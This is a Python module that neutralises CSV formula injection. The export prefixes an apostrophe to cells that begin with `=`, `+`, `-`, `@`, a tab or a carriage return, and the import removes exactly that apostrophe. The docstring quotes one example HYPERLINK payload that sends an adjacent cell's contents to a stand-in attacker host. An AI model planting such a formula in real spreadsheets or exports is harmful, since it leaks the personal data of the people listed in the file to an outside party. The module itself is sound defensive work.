"""CSV cells that a spreadsheet will not run: formula injection, neutralised losslessly.

Names and addresses come from strangers (the sign-up form) and old lists. A cell
beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets: ``=HYPERLINK("https://evil.example/?d="&A2,
"Verify")`` in an export becomes a live link that leaks the row next to it when staff
open the file. OWASP's remedy is a leading apostrophe, which spreadsheets show as
text (docs/security.md).

The export adds one apostrophe to such a cell and the import takes exactly that one
away, so export → import → export gives the same file. A cell that already begins
with apostrophes before a trigger character gets one more, so a name that really
is ``'=x`` survives the round trip too.
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def _looks_like_formula(cell: str) -> bool:
    """True when the cell, apostrophes at its start aside, begins like a formula."""
    return cell.lstrip(QUOTE)[:1] in FORMULA_STARTS and cell.lstrip(QUOTE) != ""


def neutralise(cell: str) -> str:
    """What the export writes: a cell no spreadsheet reads as a formula."""
    return QUOTE + cell if _looks_like_formula(cell) else cell


def restore(cell: str) -> str:
    """What the import reads: ``neutralise`` undone, exactly (``restore(neutralise(c)) == c``)."""
    if cell.startswith(QUOTE) and _looks_like_formula(cell):
        return cell[1:]
    return cell
